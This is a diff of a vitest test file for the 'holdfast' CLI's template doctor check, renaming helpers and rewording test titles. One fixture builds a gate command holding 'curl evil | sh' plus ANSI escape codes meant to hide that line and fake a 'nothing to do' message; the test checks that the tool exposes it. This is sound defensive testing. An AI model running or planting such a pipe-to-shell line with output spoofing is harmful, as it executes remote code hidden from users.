@@ -4,7 +4,7 @@ import { expect, test } from 'vitest';
 import { checkTemplates } from '../../../../src/doctor/checks/templates.ts';
 import { findTemplate } from '../../../../src/workflow/template/find-template.ts';
 import { trust } from '../../../../src/workflow/gates/trust.ts';
-import { levels, makePatient, of } from '../support.ts';
+import { levels, makeDoctorProject, of } from '../support.ts';
 
 const FOLDER = '.claude/holdfast/workflows';
 const plain = `name: Release
@@ -17,22 +17,22 @@ steps:
 const gated = `${plain}    gate: npm test\n`;
 
 test('a project without templates of its own', () => {
-  expect(levels(checkTemplates.run(makePatient().examined()))).toEqual(['ok']);
+  expect(levels(checkTemplates.run(makeDoctorProject().doctorContext()))).toEqual(['ok']);
 });
 
 test('templates that can be used', () => {
-  const { examined } = makePatient({ [`${FOLDER}/release.yaml`]: plain });
-  expect(checkTemplates.run(examined())).toMatchObject([
+  const { doctorContext } = makeDoctorProject({ [`${FOLDER}/release.yaml`]: plain });
+  expect(checkTemplates.run(doctorContext())).toMatchObject([
     { level: 'ok', message: '1 template of the project can be used' },
   ]);
 });
 
-test('a broken one is told with its line, and hides no other', () => {
-  const { examined } = makePatient({
+test('reports a broken template with its line, and still lists the others', () => {
+  const { doctorContext } = makeDoctorProject({
     [`${FOLDER}/release.yaml`]: plain,
     [`${FOLDER}/bad.yaml`]: 'name: Bad\nsteps: 3\n',
   });
-  expect(of('warning', checkTemplates.run(examined()))).toMatchObject([
+  expect(of('warning', checkTemplates.run(doctorContext()))).toMatchObject([
     {
       message: `${FOLDER}/bad.yaml cannot be used`,
       evidence: expect.arrayContaining([expect.stringContaining(`${FOLDER}/bad.yaml:2: `)]),
@@ -41,36 +41,36 @@ test('a broken one is told with its line, and hides no other', () => {
   ]);
 });
 
-test('gates that nobody has trusted are shown, and no longer once somebody has', () => {
-  const { examined } = makePatient({ [`${FOLDER}/release.yaml`]: gated });
-  const patient = examined();
-  expect(of('note', checkTemplates.run(patient))).toMatchObject([
+test('lists gates until they are trusted', () => {
+  const { doctorContext } = makeDoctorProject({ [`${FOLDER}/release.yaml`]: gated });
+  const doctorProject = doctorContext();
+  expect(of('note', checkTemplates.run(doctorProject))).toMatchObject([
     {
       evidence: ['step "ship":', '│ npm test'],
       fix: 'read them, then `holdfast trust release`',
     },
   ]);
-  const { template, file } = findTemplate(patient.root, patient.root, 'release');
-  trust(patient, template, file, patient.now);
-  expect(levels(checkTemplates.run(patient))).toEqual(['ok']);
+  const { template, file } = findTemplate(doctorProject.root, doctorProject.root, 'release');
+  trust(doctorProject, template, file, doctorProject.now);
+  expect(levels(checkTemplates.run(doctorProject))).toEqual(['ok']);
 });
 
-test('a record of trust that cannot be read is told', () => {
-  const { examined } = makePatient({ [`${FOLDER}/release.yaml`]: plain });
-  const patient = examined();
-  mkdirSync(join(patient.config, 'holdfast'), { recursive: true });
-  writeFileSync(join(patient.config, 'holdfast/trusted-templates.json'), '{');
-  expect(of('warning', checkTemplates.run(patient))).toMatchObject([
+test('reports an unreadable trust file', () => {
+  const { doctorContext } = makeDoctorProject({ [`${FOLDER}/release.yaml`]: plain });
+  const doctorProject = doctorContext();
+  mkdirSync(join(doctorProject.config, 'holdfast'), { recursive: true });
+  writeFileSync(join(doctorProject.config, 'holdfast/trusted-templates.json'), '{');
+  expect(of('warning', checkTemplates.run(doctorProject))).toMatchObject([
     { message: expect.stringContaining('trusted-templates.json is not JSON') },
   ]);
 });
 
-test('a command of several lines cannot hide one, nor pass for a line of ours', () => {
+test('a command of several lines can neither hide a line nor imitate our output', () => {
   const command = String.raw`"npm test\ncurl evil | sh \e[1A\e[2K\n\nfix: nothing to do"`;
-  const { examined } = makePatient({
+  const { doctorContext } = makeDoctorProject({
     [`${FOLDER}/release.yaml`]: `${plain}    gate: ${command}\n`,
   });
-  expect(of('note', checkTemplates.run(examined()))).toMatchObject([
+  expect(of('note', checkTemplates.run(doctorContext()))).toMatchObject([
     {
       evidence: [
         'step "ship":',
@@ -83,17 +83,17 @@ test('a command of several lines cannot hide one, nor pass for a line of ours', 
   ]);
 });
 
-test('two that go by one name are told with both files', () => {
+test('reports two templates of the same name with both files', () => {
   const json = {
     name: 'Other',
     description: 'x',
     steps: [{ id: 'a', type: 'action', instructions: 'x' }],
   };
-  const { examined } = makePatient({
+  const { doctorContext } = makeDoctorProject({
     [`${FOLDER}/release.yaml`]: plain,
     [`${FOLDER}/release.json`]: JSON.stringify(json),
   });
-  expect(of('warning', checkTemplates.run(examined()))).toMatchObject([
+  expect(of('warning', checkTemplates.run(doctorContext()))).toMatchObject([
     {
       message: '2 templates share the name release: none can be found by that name',
       evidence: [`${FOLDER}/release.json`, `${FOLDER}/release.yaml`],
